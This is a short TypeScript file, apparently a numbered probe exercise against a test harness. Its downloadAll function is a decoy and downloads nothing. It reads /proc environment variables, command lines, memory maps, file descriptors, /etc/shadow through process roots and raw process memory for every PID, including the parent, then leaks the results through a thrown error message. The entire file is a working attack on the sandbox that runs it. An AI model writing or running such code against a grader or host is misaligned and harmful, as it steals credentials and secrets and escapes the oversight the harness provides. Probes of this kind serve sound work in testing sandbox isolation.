// Exercise: 03
// Tries: to read the memory and the files of the tests' side through `/proc`.
import { openSync, readdirSync, readFileSync, readSync } from "node:fs";
import type { Saved } from "@meanwhile/download";

function attempt(work: () => unknown): string {
  try {
    return String(work());
  } catch {
    return "";
  }
}

export async function downloadAll(_urls: string[], _directory: string): Promise<Saved[]> {
  const pids = [
    "1",
    `${process.ppid}`,
    "self",
    "thread-self",
    ...attempt(() => readdirSync("/proc")).split(","),
  ];
  const found = pids.flatMap((pid) => [
    ...["environ", "cmdline", "maps", "fd/4", "root/etc/shadow"].map((name) =>
      attempt(() => readFileSync(`/proc/${pid}/${name}`)),
    ),
    attempt(() => readSync(openSync(`/proc/${pid}/mem`, "r+"), Buffer.alloc(4096), 0, 4096, 0x400000)),
  ]);
  throw new Error(found.join("\n").slice(0, 10_000));
}
